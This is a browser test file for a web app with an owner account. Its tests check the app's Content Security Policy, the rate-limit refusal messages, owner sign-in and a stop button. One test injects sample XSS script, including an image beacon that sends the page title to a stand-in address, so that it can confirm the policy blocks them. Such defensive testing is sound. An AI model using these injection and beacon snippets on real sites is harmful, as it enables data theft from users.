"""An app with an owner, in Chromium: its policy, and what the page says when the server refuses."""

from __future__ import annotations

import pytest

from tests.app.running import PASSWORD, App
from tests.app.visiting import ASK, ASK_ALL, ask, wait_until_done

pytestmark = pytest.mark.browser
VIOLATIONS = "addEventListener('securitypolicyviolation', e => (window.refused ??= []).push(e.violatedDirective))"


def test_the_page_works_under_its_policy_with_every_outside_address_blocked(browser, guarded_app, complaints):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(VIOLATIONS)
    context.route(lambda address: not address.startswith(guarded_app.url), lambda route: route.abort())
    page = context.new_page()
    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
    page.goto(guarded_app.url, wait_until="domcontentloaded")
    page.wait_for_selector(ASK_ALL)
    ask(page, "What is a list?")
    wait_until_done(page, 2)
    page.locator(".ll-choice").first.click()
    page.get_by_role("tab", name="Results").click()
    page.wait_for_function("document.querySelector('#ll-results')?.innerText.includes('vote')")
    assert page.evaluate("window.refused || []") == []
    assert not page.locator(".ll-exports").is_visible(), "votes are the owner's to take away"
    context.close()


def test_the_policy_stops_a_script_that_someone_slipped_in(browser, guarded_app):
    context = browser.new_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.goto(guarded_app.url, wait_until="domcontentloaded")
    page.wait_for_selector(ASK)
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.stolen = 1'>");
            const script = document.createElement("script");
            script.textContent = "window.stolen = 2";
            document.body.append(script);
            const away = new Image();
            away.src = "http://198.51.100.1/?" + document.title;
        }"""
    )
    page.wait_for_function("(window.refused || []).length >= 3")
    assert page.evaluate("window.stolen") is None
    context.close()


@pytest.fixture(scope="module")
def asked_once(browser, page_model_path, page_adapter_path, tmp_path_factory):
    """An app with an owner that takes one question and one vote a minute, and a page on which the question is asked."""
    model = ("--model", str(page_model_path), "--adapter", str(page_adapter_path))
    limits = ("--asks-per-minute", "1", "--writes-per-minute", "1")
    app = App(tmp_path_factory.mktemp("data"), *model, "--auth", PASSWORD, *limits)
    try:
        app.wait_for_line("is ready on")
        page = browser.new_page()
        page.goto(app.url, wait_until="domcontentloaded")
        page.wait_for_selector(ASK_ALL)
        ask(page, "First?")
        wait_until_done(page, 2)
        yield app, page
        page.close()
    finally:
        app.stop()


def test_a_refusal_is_said_on_the_page_in_words(asked_once):
    _, page = asked_once
    ask(page, "Second?")
    page.get_by_text("That is too fast: try again in").first.wait_for(timeout=10_000)


def test_a_refused_vote_says_why_and_an_owner_is_greeted(browser, asked_once):
    app, page = asked_once
    page.get_by_text("signs in to train").wait_for()
    first = page.locator(".ll-row", has_text="First?").locator(".ll-choice")
    first.nth(0).click()
    page.wait_for_selector(".ll-choice[aria-pressed=true]")
    first.nth(1).click()
    page.get_by_text("Not saved. That is too fast: try again in").wait_for(timeout=10_000)
    page = browser.new_page()
    page.goto(f"{app.url}owner")
    page.fill("input[type=password]", PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("You are the owner. Sign out").wait_for(timeout=20_000)
    page.close()


def test_a_visitor_stops_what_they_asked(browser, guarded_app, complaints):
    page = browser.new_page()
    page.on("console", lambda message: message.type == "error" and complaints.append(message.text))
    page.goto(guarded_app.url, wait_until="domcontentloaded")
    page.wait_for_selector(ASK_ALL)
    with page.expect_response(lambda response: response.url.endswith("/run/predict")) as stopped:
        # The tiny model may have ended by itself before a click: what is asked of the server is the same.
        page.locator("#ll-stop").dispatch_event("click")
    assert stopped.value.ok
    page.close()
